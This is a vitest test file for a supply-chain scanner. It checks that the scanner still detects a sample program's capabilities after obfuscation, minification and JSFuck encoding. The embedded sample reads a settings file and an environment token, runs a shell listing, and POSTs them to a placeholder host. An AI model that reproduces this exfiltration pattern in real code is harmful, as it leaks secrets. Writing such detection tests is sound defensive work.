/** One harmless program, passed through minifiers and obfuscators: what it can do is seen through all of them. */
import { createRequire } from "node:module";

import type { PackageReport, Report } from "importguard-wasm";
import { createNodeAnalyzer } from "importguard-wasm/node";
import { afterAll, describe, expect, test } from "vitest";

const load = createRequire(import.meta.url);
const analyzer = createNodeAnalyzer();
afterAll(() => analyzer.dispose());

/** Nothing of it is ever run; its hosts and paths exist nowhere. */
const SOURCE = `'use strict';
const fs = require('fs');
const https = require('https');
const { execSync } = require('child_process');

function readSettings() {
  return fs.readFileSync('/srv/example/settings.json', 'utf8');
}

function token() {
  return process.env.EXAMPLE_TOKEN;
}

function send(data) {
  const request = https.request({ hostname: 'telemetry.example.invalid', path: '/collect', method: 'POST' });
  request.write(JSON.stringify(data));
  request.end();
}

function list() {
  return execSync('ls -la /srv/example').toString();
}

const report = { settings: readSettings(), token: token(), list: list() };
if (report.list.length > 0) {
  send(report);
}
`;

/** What the program can do, and what is known of it. */
const POWERS = ["env", "fs-read", "network", "process-exec"];
const ARGUMENTS = ["/srv/example/settings.json", "EXAMPLE_TOKEN", "ls -la /srv/example", "telemetry.example.invalid"];

interface Obfuscator {
  obfuscate(source: string, options: object): { getObfuscatedCode(): string };
}
interface Terser {
  minify(source: string, options: object): Promise<{ code?: string }>;
}
interface Uglify {
  minify(source: string, options: object): { code: string };
}
interface SixCharacters {
  JSFuck: { encode(source: string, evaluate: boolean): string };
}

const obfuscator = load("javascript-obfuscator") as Obfuscator;
const terser = load("terser") as Terser;
const uglify = load("uglify-js") as Uglify;
const six = load("jsfuck") as SixCharacters;

async function scan(code: string): Promise<PackageReport> {
  const encoder = new TextEncoder();
  const manifest = JSON.stringify({ name: "sample", version: "1.0.0", main: "index.js" });
  const files = [
    { path: "package.json", bytes: encoder.encode(manifest) },
    { path: "index.js", bytes: encoder.encode(code) },
  ];
  const report: Report = await analyzer.scanFiles({ path: "sample", files });
  const [one] = report.packages;
  if (one === undefined) throw new Error("no package in the report");
  return one;
}

function powers(report: PackageReport): string[] {
  return [...new Set(report.capabilities.map((used) => used.capability))].sort();
}

function known(report: PackageReport): string[] {
  return report.capabilities.flatMap((used) => [...(used.hosts ?? []), ...(used.paths ?? []), ...(used.commands ?? []), ...(used.variables ?? [])]);
}

function isFlagged(report: PackageReport): boolean {
  return report.findings.some((finding) => finding.rule === "obfuscated-code");
}

test("the source itself", async () => {
  const report = await scan(SOURCE);
  expect(powers(report)).toEqual(POWERS);
  expect(known(report)).toEqual(expect.arrayContaining(ARGUMENTS));
  expect(isFlagged(report)).toBe(false);
});

describe("an obfuscator", () => {
  const cases = ["low", "medium", "high"].flatMap((preset) => [1, 2, 3].map((seed) => ({ preset, seed })));
  test.each(cases)("$preset, seed $seed", async ({ preset, seed }) => {
    const code = obfuscator.obfuscate(SOURCE, { optionsPreset: `${preset}-obfuscation`, seed }).getObfuscatedCode();
    const report = await scan(code);
    expect(isFlagged(report)).toBe(true);
    if (preset === "high") return;
    // What the obfuscator adds of its own (it silences the console) stands beside the program's powers.
    expect(powers(report)).toEqual(expect.arrayContaining(POWERS));
    expect(known(report)).toEqual(expect.arrayContaining(ARGUMENTS));
  });
});

describe("a minifier is no obfuscator", () => {
  test("terser", async () => {
    const { code } = await terser.minify(SOURCE, { toplevel: true, compress: { passes: 2 }, mangle: { toplevel: true } });
    const report = await scan(code ?? "");
    expect(powers(report)).toEqual(POWERS);
    expect(known(report)).toEqual(expect.arrayContaining(ARGUMENTS));
    expect(isFlagged(report)).toBe(false);
  });
  test("uglify-js", async () => {
    const report = await scan(uglify.minify(SOURCE, { toplevel: true }).code);
    expect(powers(report)).toEqual(POWERS);
    expect(known(report)).toEqual(expect.arrayContaining(ARGUMENTS));
    expect(isFlagged(report)).toBe(false);
  });
});

test("six characters", async () => {
  const report = await scan(six.JSFuck.encode("require('child_process').execSync('ls -la /srv/example')", true));
  expect(isFlagged(report)).toBe(true);
  expect(powers(report)).toEqual(["dynamic-code", "process-exec"]);
  expect(known(report)).toContain("ls -la /srv/example");
});
